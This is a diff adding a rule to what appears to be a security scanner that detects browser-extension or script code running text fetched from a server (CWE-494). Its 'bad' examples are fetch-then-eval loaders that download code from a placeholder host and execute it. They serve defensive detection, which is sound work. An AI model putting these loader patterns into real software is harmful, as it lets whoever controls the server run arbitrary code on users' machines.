@@ -1,0 +1,54 @@
+import { defineRule } from '../../rule.ts';
+import { backgroundExample, checkScripts, contentExample } from './checkScripts.ts';
+import { codeRunsOf, type RunKind } from './codeRuns.ts';
+import { isFromServer } from './network.ts';
+
+/** The ways that certainly run what they are given. */
+const CERTAIN: ReadonlySet<RunKind> = new Set(['eval', 'function', 'callback', 'timer']);
+
+export const remoteCode = defineRule({
+  id: 'remote-code',
+  title: 'Text fetched from a server is run as code',
+  severity: 'critical',
+  confidence: 'high',
+  category: 'code',
+  applies: 'both',
+  cwe: 'CWE-494',
+  references: ['https://developer.chrome.com/docs/extensions/develop/migrate/remote-hosted-code', 'https://cwe.mitre.org/data/definitions/494.html'],
+  why: 'The server decides what runs, at any time and for each person separately, after every review is over. Whoever owns or breaks into that server owns the program.',
+  remedy: 'Ship all code in the package. Fetch data only, read it with JSON.parse, and let fixed code decide what to do with it.',
+  cap: { grade: 'F', reason: 'it runs code that a server sends' },
+  check: checkScripts(function* ({ script, hit, facts }) {
+    for (const run of codeRunsOf(script)) {
+      if (run.kind === 'handler') continue;
+      if (!isFromServer(script, run.code)) continue;
+      const certain = CERTAIN.has(run.kind);
+      yield hit(run.value, {
+        ...(certain || facts.kind === 'extension' ? {} : { severity: 'high' as const }),
+        ...(certain ? {} : { confidence: 'medium' as const }),
+        ...(run.kind === 'injected' || run.kind === 'script-element' || run.kind === 'user-script' ? { message: 'The answer of a request becomes a script in web pages.' } : {}),
+      });
+    }
+  }),
+  examples: {
+    bad: [
+      backgroundExample('fetch("https://x.example/a.js").then((r) => r.text()).then(eval);'),
+      backgroundExample('fetch("https://x.example/a").then((r) => r.text()).then((t) => { eval(t); });'),
+      backgroundExample('async function load() { const r = await fetch("https://x.example/c"); const { script } = await r.json(); new Function(script)(); } load();'),
+      backgroundExample('const x = new XMLHttpRequest(); x.open("GET", "https://x.example/a"); x.onload = function () { (0, eval)(this.responseText); }; x.send();'),
+      backgroundExample('const x = new XMLHttpRequest(); x.onreadystatechange = () => { if (x.readyState === 4) chrome.tabs.executeScript({ code: x.responseText }); };', { manifest_version: 2 }),
+      contentExample('fetch("https://x.example/a").then((r) => r.text()).then((code) => { const s = document.createElement("script"); s.textContent = code; document.head.append(s); });'),
+      backgroundExample('const s = new WebSocket("wss://x.example"); s.onmessage = (e) => { [].constructor.constructor(e.data)(); };'),
+      backgroundExample('$.get("https://x.example/r", (r) => { setTimeout("run(" + r + ")", 10); });'),
+      { files: { 'setup.js': 'const https = require("https"); https.get("https://x.example/s", (r) => { let d = ""; r.on("data", (c) => { d += c; }); r.on("end", () => eval(d)); });' } },
+    ],
+    good: [
+      contentExample('fetch(chrome.runtime.getURL("inject.js")).then((r) => r.text()).then((code) => { const s = document.createElement("script"); s.textContent = code; document.head.append(s); });'),
+      backgroundExample('const x = new XMLHttpRequest(); x.open("GET", chrome.extension.getURL("page.js")); x.onload = function () { chrome.tabs.executeScript({ code: this.responseText }); }; x.send();', { manifest_version: 2 }),
+      backgroundExample('fetch("https://x.example/a.json").then((r) => r.json()).then((data) => { show(data.title); });'),
+      backgroundExample('fetch("https://x.example/a").then((r) => r.text()).then((t) => { JSON.parse(t); }); eval("1 + 1");'),
+      contentExample('fetch("https://x.example/a").then((r) => r.text()).then((css) => { const s = document.createElement("style"); s.textContent = css; document.head.append(s); });'),
+      contentExample('const s = document.createElement("script"); s.src = chrome.runtime.getURL("page.js"); document.head.append(s);'),
+    ],
+  },
+});
